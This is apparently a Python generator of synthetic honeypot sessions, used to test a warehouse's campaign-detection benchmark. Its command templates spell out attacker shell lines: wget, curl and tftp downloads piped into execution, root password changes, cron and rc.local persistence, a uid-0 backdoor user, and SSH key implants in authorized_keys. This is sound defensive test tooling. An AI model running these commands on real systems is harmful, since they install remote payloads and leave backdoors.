"""Sessions with campaigns planted in them, as facts of a warehouse: what `benchmarks.campaigns` and its test look for.

Each campaign has a script of its own, which each of its sessions types with other random names, passwords, hosts and
urls, with commands left out, exchanged, or thrown in, and sometimes only its beginning; several campaigns share their
opening. Some have two scripts that nothing but an implanted key joins. Between them come sessions that type a few
everyday commands, and more that only log in. The same arguments give the same sessions.
"""

import base64
import random
import string
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import islice
from typing import Any

from sqlalchemy import Connection

from cowrie_assets.clock import US_PER_DAY, US_PER_SECOND
from cowrie_assets.cowrie.event_types import KNOWN
from cowrie_assets.cowrie.normalize import behaviour_signature, normalize_command
from cowrie_assets.cowrie.risk import RULESET
from cowrie_assets.summaries.networks import network_of
from cowrie_assets.warehouse import day_versions
from cowrie_assets.warehouse.bulk_insert import insert_rows
from cowrie_assets.warehouse.dictionary import Dictionaries, digest_of
from cowrie_assets.warehouse.engine import Warehouse

EVERYDAY = (
    *("uname -a", "id", "w", "whoami", "nproc", "ls", "ls -la", "ps -ef", "uname", "uname -m", "free -m", "df -h"),
    *("cat /proc/cpuinfo | grep name | wc -l", "lscpu | grep Model", "crontab -l", "history -c", "exit", "ifconfig"),
    *("cat /etc/passwd", "cat /proc/uptime", "uname -s -v -n -r -m", "which ls", "ls -lh $(which ls)", "top", "pwd"),
    *("export HISTFILE=/dev/null", "cd /tmp", "echo SHELL_TEST", "cat /proc/mounts", "netstat -an", "last", "env"),
)
OPENINGS = (
    ("enable", "system", "shell", "sh"),
    ("enable", "system", "shell", "sh", "/bin/busybox {bot}"),
    ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m"),
    ("export HISTFILE=/dev/null", "cd /tmp"),
    (),
)
_CORE = (
    "wget -q http://{host}/{file} -O /tmp/.{rand}; chmod 777 /tmp/.{rand}; /tmp/.{rand} {own}",
    "curl -s http://{host}/{own}/{file} | sh -s {own}",
    "tftp -g -r {file} {host}; chmod +x {file}; ./{file} {own}",
    "mkdir -p /var/{own}/{own2} && cd /var/{own}/{own2}",
    "rm -rf /var/tmp/{own}* /tmp/{own2}*",
    "pkill -9 {own}; pkill -9 {own2}; killall {own}d",
    'echo "root:{password}" | chpasswd',
    "nohup ./{own} --{own2} -p {n} >/dev/null 2>&1 &",
    "echo '*/{n} * * * * /usr/bin/{own} {own2}' | crontab -",
    "chattr -ia /etc/{own}.conf; cp {own2} /etc/{own}.conf",
    "grep -q {own} /etc/rc.local || echo {own2} >> /etc/rc.local",
    "dd if=/dev/zero of=/tmp/{own} bs={n} count={n}",
    "iptables -I INPUT -p tcp --dport {n} -m comment --comment {own} -j DROP",
    "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {own}",
    "cat /var/run/{own}.pid | xargs kill -{n}",
    "ln -sf /tmp/{rand} /etc/{own}/{own2}",
)
_SYLLABLES = ("ka", "mo", "zu", "ri", "te", "lo", "xa", "ve", "ny", "do", "pi", "su", "ga", "fe", "wo", "hi")
_BOTS = ("PEACH", "ECCHI", "OWARI", "LZRD", "SATORI", "MIRAI")
_SSH = b"\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01\x00\x00\x00\x81\x00"
_POOL = 40
"""Values from which a campaign's sessions take most of what varies; one session of ten makes one up."""


_BUILDS = 60
_ROUTINES = 3_000
"""What people and bots outside of campaigns type, but for one session of ten."""


@dataclass(frozen=True, slots=True)
class Planted:
    """A session as it is planted."""

    campaign: int | None
    """None: it belongs to none."""
    at_us: int
    sensor: int
    address: str
    hassh: str
    username: str
    password: str
    succeeded: bool
    commands: tuple[str, ...] = ()


@dataclass(slots=True)
class _Campaign:
    """A script, and what its sessions put into it."""

    number: int
    rng: random.Random
    scripts: list[list[str]] = field(default_factory=list)
    addresses: list[str] = field(default_factory=list)
    hassh: str = ""
    pools: dict[str, list[str]] = field(default_factory=dict)
    builds: list[list[str]] = field(default_factory=list)
    """Scripts as some of its bots have them."""

    def typed(self, rng: random.Random) -> tuple[str, ...]:
        """What one session types."""
        script = self.varied(rng) if rng.random() < 0.1 else rng.choice(self.builds)
        return tuple(self._filled(command, rng) for command in script)

    def varied(self, rng: random.Random) -> list[str]:
        """A script with commands left out, exchanged, thrown in, or cut."""
        script = list(rng.choice(self.scripts))
        if rng.random() < 0.3 and len(script) > 4:
            del script[rng.randrange(len(script))]
        if rng.random() < 0.3:
            place = rng.randrange(len(script) - 1)
            script[place], script[place + 1] = script[place + 1], script[place]
        if rng.random() < 0.3:
            for _ in range(rng.randint(1, 2)):
                script.insert(rng.randrange(len(script) + 1), rng.choice(EVERYDAY))
        if rng.random() < 0.1:
            script = script[: max(4, len(script) * 3 // 4)]
        return script

    def _filled(self, command: str, rng: random.Random) -> str:
        if "{" not in command:
            return command
        values = {
            name: _VARYING[name](rng) if rng.random() < 0.1 else rng.choice(pool) for name, pool in self.pools.items()
        }
        for name, value in values.items():
            command = command.replace(f"{{{name}}}", value)
        return command


_VARYING: dict[str, Any] = {
    "host": lambda rng: f"{rng.randint(20, 220)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randint(1, 254)}",
    "file": lambda rng: rng.choice(("x86", "arm7", "mips", "bins.sh", "i.sh", "sh4")),
    "rand": lambda rng: "".join(rng.choices(string.ascii_lowercase, k=8)),
    "password": lambda rng: "".join(rng.choices(string.ascii_letters + string.digits, k=12)),
    "n": lambda rng: str(rng.randint(2, 9999)),
    "bot": lambda rng: rng.choice(_BOTS),
}


def planted(
    sessions: int, *, days: int, first_day: int, campaigns: int = 200, seed: int = 5, grown: int = 0
) -> Iterator[Planted]:
    """So many sessions, evenly over `days` from `first_day` (`clock.day_number`), in the order of time. `grown`: so
    many days before were made by the same campaigns; another number, other sessions."""
    rng = random.Random(f"{seed} sessions {grown}")
    known = [_campaign(number, random.Random(f"{seed} {number}")) for number in range(campaigns)]
    weights = [1 / (place + 3) ** 1.1 for place in range(campaigns)]
    start, span = first_day * US_PER_DAY, days * US_PER_DAY
    strangers = [_VARYING["host"](rng) for _ in range(max(50, sessions // 20))]
    tools = [f"{rng.getrandbits(128):032x}" for _ in range(30)]
    usual = random.Random(f"{seed} routines")
    routines = [_everyday(usual) for _ in range(_ROUTINES)]
    for place in range(sessions):
        at_us, sensor = start + span * place // sessions, rng.randrange(5)
        draw = rng.random()
        if draw < 0.25:
            (campaign,) = rng.choices(known, weights)
            yield Planted(
                campaign.number,
                at_us,
                sensor,
                rng.choice(campaign.addresses),
                campaign.hassh,
                "root",
                rng.choice(("admin", "123456", "root")),
                True,
                campaign.typed(rng),
            )
            continue
        stranger, tool = rng.choice(strangers), rng.choice(tools)
        password = rng.choice(("admin", "1234", "password", "raspberry", "admin123", "P@ssw0rd"))
        commands = (_everyday(rng) if rng.random() < 0.1 else rng.choice(routines)) if draw < 0.4 else ()
        yield Planted(None, at_us, sensor, stranger, tool, "root", password, bool(commands), commands)


def _everyday(rng: random.Random) -> tuple[str, ...]:
    return tuple(rng.choices(EVERYDAY, k=rng.choice((1, 1, 1, 2, 2, 3, 4, 5))))


def _campaign(number: int, rng: random.Random) -> _Campaign:
    own, own2 = ("".join(rng.choices(_SYLLABLES, k=3)) for _ in range(2))
    made = _Campaign(number, rng)
    opening = list(rng.choice(OPENINGS))
    commands = [each.replace("{own2}", own2).replace("{own}", own) for each in _CORE]
    made.scripts = [opening + rng.sample(commands, rng.randint(4, 9))]
    if number % 5 == 0:
        key = base64.b64encode(_SSH + rng.randbytes(128)).decode()
        implant = f'mkdir -p ~/.ssh; echo "ssh-rsa {key} {own}" >> ~/.ssh/authorized_keys'
        rest = [each for each in commands if each not in made.scripts[0]]
        made.scripts = [[*made.scripts[0], implant], [*rng.choice(OPENINGS), implant, *rng.sample(rest, 4)]]
    made.hassh = f"{rng.getrandbits(128):032x}"
    made.addresses = [_VARYING["host"](rng) for _ in range(rng.randint(20, 400))]
    made.pools = {name: [make(rng) for _ in range(_POOL)] for name, make in _VARYING.items()}
    made.pools["bot"] = made.pools["bot"][:1]
    made.builds = [made.varied(rng) for _ in range(_BUILDS)]
    return made


def store(warehouse: Warehouse, sessions: Iterator[Planted], *, at_once: int = 50_000) -> dict[int, int | None]:
    """Store sessions as the summaries would leave them, and mark their days as changed. The campaign of each
    (`session_keys.id`)."""
    truth: dict[int, int | None] = {}
    days: set[int] = set()
    while some := list(islice(sessions, at_once)):
        with warehouse.write() as connection:
            _store(connection, some, truth)
        days |= {each.at_us // US_PER_DAY for each in some}
    with warehouse.write() as connection:
        day_versions.count_sessions(connection, days)
    return truth


def _store(connection: Connection, some: Sequence[Planted], truth: dict[int, int | None]) -> None:
    dictionaries = Dictionaries(KNOWN.__contains__)
    texts = dictionaries.texts
    sensor_ids = dictionaries.sensors.resolve(connection, [f"hp-{number}" for number in range(5)])
    keys = [(sensor_ids[each.sensor], digest_of(str(each.at_us), each.address)[:6].hex()) for each in some]
    refs = dictionaries.sessions.resolve(connection, keys)
    named = {name: texts.resolve(connection, [getattr(each, name) for each in some]) for name in _NAMED}
    typed = list(dict.fromkeys(command for each in some for command in each.commands))
    numbers = dict(zip(typed, texts.resolve(connection, typed), strict=True))
    scored = set(connection.exec_driver_sql("SELECT command_id FROM commands").scalars())
    fresh = [command for command in typed if numbers[command] not in scored]
    forms = [normalize_command(command) for command in fresh]
    rows = [
        (numbers[command], form_id, behaviour_signature(form), 0, RULESET)
        for command, form, form_id in zip(fresh, forms, texts.resolve(connection, forms), strict=True)
    ]
    insert_rows(connection, "commands", ("command_id", "normalized_id", "signature", "risk_score", "ruleset"), rows)
    mapped = set(connection.exec_driver_sql("SELECT ip_id FROM addresses").scalars())
    networks = {number: network_of(each.address) for number, each in zip(named["address"], some, strict=True)}
    new = sorted(networks.keys() - mapped)
    network_ids = texts.resolve(connection, [networks[number] or "" for number in new])
    insert_rows(connection, "addresses", ("ip_id", "network_id"), list(zip(new, network_ids, strict=True)))
    facts, command_facts = [], []
    for place, (ref, each) in enumerate(zip(refs, some, strict=True)):
        truth[ref] = each.campaign
        facts.append(
            (
                *(
                    ref,
                    sensor_ids[each.sensor],
                    each.at_us // US_PER_DAY,
                    each.at_us,
                    each.at_us + 9 * US_PER_SECOND,
                    2,
                ),
                *(named["address"][place], 9 * US_PER_SECOND, 1, 8, len(each.commands), 0),
                *(int(each.succeeded), int(not each.succeeded), 0, 0, 0, 0, named["username"][place]),
                *(named["password"][place], named["hassh"][place], 0, each.at_us),
            )
        )
        seen: dict[str, list[int]] = {}
        for number, command in enumerate(each.commands):
            seen.setdefault(command, []).append(each.at_us + number * US_PER_SECOND // 10)
        command_facts += [(ref, numbers[text], len(at), at[0], at[-1]) for text, at in seen.items()]
    insert_rows(connection, "session_facts", _SESSION, facts)
    insert_rows(connection, "command_facts", _COMMAND, command_facts)
    days = {(each.at_us // US_PER_DAY, sensor_ids[each.sensor]) for each in some}
    day_versions.renew_sessions(connection, days)


_NAMED = ("address", "username", "password", "hassh")
_SESSION = (
    *("session_ref", "sensor_id", "session_day", "first_event_at", "last_event_at", "matcher", "src_ip_id"),
    *("duration_us", "closed", "event_count", "command_count", "high_risk_commands", "login_successes"),
    *("login_failures", "file_downloads", "file_downloads_failed", "file_uploads", "tunnel_requests", "username_id"),
    *("password_id", "hassh_id", "risk_score", "updated_at"),
)
_COMMAND = ("session_ref", "command_id", "occurrences", "first_seen", "last_seen")


SNOWSHOES, DECOYS = 10_000, 20_000
"""From these numbers on, the campaigns of `planted_snowshoes`."""
_PROGRAMS = (
    "vim",
    "less",
    "grep -n listen",
    "tail -f",
    "chown www-data",
    "tar czf backup.tgz",
    "diff -u",
    "sed -n 5p",
    "stat",
)
_PLACES = (
    *("/etc/nginx/nginx.conf", "/var/www/shop/config.php", "/opt/jenkins/secrets", "/root/.kube/config", "/etc/fstab"),
    *("/srv/git/billing.git", "/etc/postfix/main.cf", "/var/lib/mysql/shop", "/home/deploy/.aws/credentials"),
    *("/etc/exports", "/etc/wireguard/wg.conf", "/usr/local/etc/haproxy.cfg", "/etc/samba/smb.conf", "/etc/hosts.deny"),
    *("/var/backups/ldap.ldif", "/etc/bind/named.conf", "/etc/squid/squid.conf", "/opt/tomcat/conf/server.xml"),
)
_TARGETS = ("billing", "intranet", "warehouse", "staging", "ledger", "printers", "timesheet", "payroll", "catalog")


def planted_snowshoes(groups: int, *, days: int, first_day: int, seed: int = 7) -> Iterator[Planted]:
    """Campaigns of 20 to 150 addresses all over, each of which comes once or twice in `days`, on whichever sensors; and
    beside each one what is none: as many addresses that all come often, in one network, or that type what is common."""
    for number in range(groups):
        rng = random.Random(f"{seed} {number}")
        for first in (SNOWSHOES, DECOYS):
            made = _campaign(first + number, random.Random(f"{seed} {first + number}"))
            kind = "light" if first == SNOWSHOES else ("heavy", "one network", "common")[number % 3]
            for place in range(rng.randint(20, 150)):
                address = f"198.51.100.{place}" if kind == "one network" else _VARYING["host"](rng)
                typed = (*OPENINGS[0], *rng.choices(EVERYDAY, k=3)) if kind == "common" else ()
                for _ in range(rng.randint(4, 8) if kind == "heavy" else rng.choice((1, 1, 1, 1, 2))):
                    at_us = int((first_day + rng.random() * days) * US_PER_DAY)
                    commands = typed or made.typed(rng)
                    campaign = None if kind == "common" else made.number
                    who = (address, made.hassh, "root", rng.choice(("admin", "123456", "root")), True)
                    yield Planted(campaign, at_us, rng.randrange(3) if kind == "heavy" else 0, *who, commands)


def planted_rarities(sessions: int, *, days: int, first_day: int, seed: int = 11) -> Iterator[Planted]:
    """People who look around by hand: each types a few commands that hardly anybody else does, between usual ones."""
    for number in range(sessions):
        rng = random.Random(f"{seed} {number}")
        own = [f"{rng.choice(_PROGRAMS)} {place}" for place in rng.sample(_PLACES, 2)]
        own += [f"ssh {rng.choice(_TARGETS)}-{rng.choice(_SYLLABLES)}{rng.choice(_SYLLABLES)} uptime -p"]
        commands = [*own, *rng.choices(EVERYDAY, k=rng.randint(1, 6))]
        rng.shuffle(commands)
        at_us = int((first_day + rng.random() * days) * US_PER_DAY)
        who = (_VARYING["host"](rng), f"{rng.getrandbits(128):032x}", "root", "admin", True)
        yield Planted(None, at_us, rng.randrange(5), *who, tuple(commands))
